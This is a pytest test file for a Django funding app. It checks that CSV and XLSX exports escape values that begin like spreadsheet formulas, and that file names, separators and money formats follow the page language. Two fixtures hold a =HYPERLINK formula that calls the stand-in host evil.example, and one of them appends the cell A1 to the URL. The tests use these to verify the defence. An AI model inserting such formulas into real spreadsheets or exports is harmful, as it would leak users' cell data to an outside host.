"""Plan and tracking exports go through common/documents: text that starts like a spreadsheet
formula comes out as text, numbers stay numbers, separators and file names follow the page's
language (security finding 2 of issue #15)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from aluhub.common import documents
from tests.factories import MembershipFactory, OrganizationFactory, UserFactory
from tests.funding.factories import make_program
from tests.funding_plans.factories import computed_plan, make_application

pytestmark = pytest.mark.django_db


def _url(lang: str, name: str, *args: object) -> str:
    with translation.override(lang):
        return reverse(name, args=args)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _plan(title: str) -> tuple[object, object]:
    user = UserFactory()
    organization = OrganizationFactory(
        name="+Alu Formule", region="02", employees=45, naics_codes=["331318"]
    )
    MembershipFactory(user=user, organization=organization)
    plan = computed_plan(organization, user=user, lang="en", title=title)
    return user, plan


def test_tracking_csv_neutralises_an_organization_named_like_a_formula(client: Client) -> None:
    staff = UserFactory(role="staff")
    org = OrganizationFactory(name=HYPERLINK, region="02")
    make_application(org, make_program("a"), stage="approved", amount_approved_cad=Decimal("12500"))
    client.force_login(staff)

    response = client.get("/en/funding/tracking/dashboard/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][6] == "12500"


def test_tracking_csv_in_french_uses_semicolons_and_a_french_file_name(client: Client) -> None:
    staff = UserFactory(role="staff")
    org = OrganizationFactory(name="-Alu Sud", region="02")
    make_application(org, make_program("a"), stage="approved", amount_approved_cad=Decimal("12500"))
    client.force_login(staff)

    response = client.get(_url("fr", "funding_plans:dashboard_export"))
    english = client.get("/en/funding/tracking/dashboard/export.csv")

    assert response.status_code == 200, response
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Organisation"
    assert (rows[1][0], rows[1][6]) == ("'-Alu Sud", "12500")
    assert 'filename="demandes-de-financement-' in response["Content-Disposition"]
    assert 'filename="funding-applications-' in english["Content-Disposition"]


def test_plan_xlsx_keeps_a_title_starting_with_equals_as_text(client: Client) -> None:
    user, plan = _plan('=HYPERLINK("http://evil.example","x")')
    client.force_login(user)

    response = client.get(f"/en/funding/plans/{plan.pk}/export/xlsx/")  # type: ignore[attr-defined]

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet["A1"].value == '\'=HYPERLINK("http://evil.example","x")'
    assert sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "'+Alu Formule"
    amounts = [r for r in sheet.iter_rows(min_row=5) if r[1].value]
    assert amounts and all(isinstance(r[3].value, int | float) for r in amounts)
    assert {r[3].number_format for r in amounts} == {documents.MONEY_CAD_EN}
    assert 'filename="financing-plan-' in response["Content-Disposition"]


def test_plan_xlsx_file_name_and_money_format_follow_french(client: Client) -> None:
    user, plan = _plan("Cellule")
    client.force_login(user)

    response = client.get(_url("fr", "funding_plans:plan_export", plan.pk, "xlsx"))  # type: ignore[attr-defined]

    assert response.status_code == 200
    assert f'filename="montage-financier-{plan.pk}.xlsx"' in response["Content-Disposition"]  # type: ignore[attr-defined]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    totals = [r for r in sheet.iter_rows() if r[0].value == "Aide totale"]
    assert [r[3].number_format for r in totals] == [documents.MONEY_CAD]
    share = [r[3].value for r in sheet.iter_rows() if r[0].value == "Part des dépenses admissibles"]
    # Written the French way (it was "35.0 % / 50 %").
    assert share == ["35\u00a0% / 50\u00a0%"]


def test_plan_pdf_uses_the_embedded_font_and_the_shared_footer(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    from reportlab import rl_config

    # Uncompressed pages so the text can be searched in the bytes.
    monkeypatch.setattr(rl_config, "pageCompression", 0)
    user, plan = _plan("Cellule <robot> & ete")
    client.force_login(user)

    data = client.get(f"/en/funding/plans/{plan.pk}/export/pdf/").content  # type: ignore[attr-defined]

    assert data.startswith(b"%PDF")
    fonts = set(re.findall(rb"/BaseFont /(?:[A-Z]{6}\+)?([^\s/]+)", data))
    assert {b"BitstreamVeraSans-Bold", b"BitstreamVeraSans-Roman"} <= fonts
    assert b"Cellule <robot> & ete" in data  # the escaped title, drawn as written
    assert b"(AluHub " in data  # the shared page footer
